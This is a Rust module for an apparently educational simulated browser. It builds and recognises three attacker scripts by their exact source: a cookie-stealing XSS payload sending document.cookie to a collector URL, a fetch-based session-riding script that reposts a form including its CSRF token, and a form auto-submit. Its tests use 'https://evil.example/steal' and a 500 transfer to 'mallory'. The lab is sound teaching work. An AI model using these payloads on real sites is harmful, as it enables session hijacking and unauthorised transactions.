//! The scripts the simulated browser can run.
//!
//! The browser has no JavaScript engine. It knows a few scripts by their
//! exact source, which the attacker writes into pages and links: the source
//! a student reads is the source that runs. A `<script>` the browser does
//! not recognise is left alone. Whether a script runs at all is decided by
//! the page: an escaped `&lt;script&gt;` is text, not a script.

use serde::{Deserialize, Serialize};

/// A script the simulated browser recognises.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Script {
    /// Sends `document.cookie` to the attacker's collector URL.
    StealCookies { collector: String },
    /// Loads the form at `path`, sets `fields` (keeping hidden ones such as a
    /// CSRF token) and posts it, all from inside the page.
    RideSession {
        path: String,
        fields: Vec<(String, String)>,
    },
    /// Submits the page's form with this id.
    SubmitForm { form_id: String },
}

const STEAL_PREFIX: &str = "new Image().src='";
const STEAL_SUFFIX: &str = "?c='+encodeURIComponent(document.cookie)";
const RIDE_PREFIX: &str = "fetch('";
const SUBMIT_PREFIX: &str = "document.getElementById('";
const SUBMIT_SUFFIX: &str = "').submit()";

impl Script {
    /// The JavaScript source, as it appears in the page.
    pub fn source(&self) -> String {
        match self {
            Script::StealCookies { collector } => {
                format!("{STEAL_PREFIX}{collector}{STEAL_SUFFIX}")
            }
            Script::RideSession { path, fields } => {
                let sets: String = fields
                    .iter()
                    .map(|(k, v)| format!("d.set('{k}','{v}');"))
                    .collect();
                format!(
                    "{RIDE_PREFIX}{path}').then(r=>r.text()).then(h=>{{const d=new FormData(new DOMParser().parseFromString(h,'text/html').forms[0]);{sets}fetch('{path}',{{method:'POST',body:new URLSearchParams(d)}})}})"
                )
            }
            Script::SubmitForm { form_id } => format!("{SUBMIT_PREFIX}{form_id}{SUBMIT_SUFFIX}"),
        }
    }

    /// The `<script>` element.
    pub fn to_html(&self) -> String {
        format!("<script>{}</script>", self.source())
    }

    /// Recognises a script by its source; `None` for anything else.
    pub fn recognise(code: &str) -> Option<Script> {
        let candidate = if let Some(rest) = code.strip_prefix(STEAL_PREFIX) {
            Script::StealCookies {
                collector: rest.strip_suffix(STEAL_SUFFIX)?.to_string(),
            }
        } else if let Some(rest) = code.strip_prefix(SUBMIT_PREFIX) {
            Script::SubmitForm {
                form_id: rest.strip_suffix(SUBMIT_SUFFIX)?.to_string(),
            }
        } else if let Some(rest) = code.strip_prefix(RIDE_PREFIX) {
            let (path, rest) = rest.split_once('\'')?;
            let mut fields = Vec::new();
            let mut tail = rest;
            while let Some(i) = tail.find("d.set('") {
                let after = tail.get(i + "d.set('".len()..)?;
                let (k, after) = after.split_once("','")?;
                let (v, after) = after.split_once("');")?;
                fields.push((k.to_string(), v.to_string()));
                tail = after;
            }
            Script::RideSession {
                path: path.to_string(),
                fields,
            }
        } else {
            return None;
        };
        // Only the exact source counts: no lookalikes.
        (candidate.source() == code).then_some(candidate)
    }

    /// What the script does, in a few words.
    pub fn describe(&self) -> String {
        match self {
            Script::StealCookies { collector } => {
                format!("sends document.cookie to {collector}")
            }
            Script::RideSession { path, .. } => {
                format!("loads the form at {path} and submits it from inside the page")
            }
            Script::SubmitForm { form_id } => format!("submits the form #{form_id}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recognises_its_own_sources_only() {
        let scripts = [
            Script::StealCookies {
                collector: "https://evil.example/steal".into(),
            },
            Script::RideSession {
                path: "/transfer".into(),
                fields: vec![
                    ("to".into(), "mallory".into()),
                    ("amount".into(), "500".into()),
                ],
            },
            Script::SubmitForm {
                form_id: "f".into(),
            },
        ];
        for s in scripts {
            assert_eq!(Script::recognise(&s.source()), Some(s.clone()));
            assert_eq!(Script::recognise(&format!("{} ", s.source())), None);
        }
        assert_eq!(Script::recognise("alert(1)"), None);
    }
}
